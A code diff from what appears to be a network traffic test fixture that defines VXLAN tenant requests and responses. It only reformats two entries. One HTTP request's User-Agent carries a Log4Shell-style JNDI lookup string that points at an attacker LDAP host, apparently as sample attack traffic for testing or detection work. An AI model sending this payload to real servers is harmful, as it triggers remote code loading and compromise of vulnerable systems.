@@ -9,8 +9,18 @@ import { ATTACKER, WEB } from './actors.js';
 
 const TARGET = '10.200.0.200';
 const TENANTS = [
-  { vni: 4711, source: '10.200.1.11', request: httpRequest('GET /item?id=7'), response: httpResponse('200 OK', '<html>a cup</html>') },
-  { vni: 4712, source: '10.200.2.22', request: httpRequest('GET /', { headers: { 'User-Agent': '${jndi:ldap://203.0.113.66:1389/x}' } }), response: httpResponse('200 OK', 'ok') },
+  {
+    vni: 4711,
+    source: '10.200.1.11',
+    request: httpRequest('GET /item?id=7'),
+    response: httpResponse('200 OK', '<html>a cup</html>'),
+  },
+  {
+    vni: 4712,
+    source: '10.200.2.22',
+    request: httpRequest('GET /', { headers: { 'User-Agent': '${jndi:ldap://203.0.113.66:1389/x}' } }),
+    response: httpResponse('200 OK', 'ok'),
+  },
 ] as const;
 
 /** As an interface mirrors: outer source port from a hash of the inner addresses and ports, outer checksum 0. */
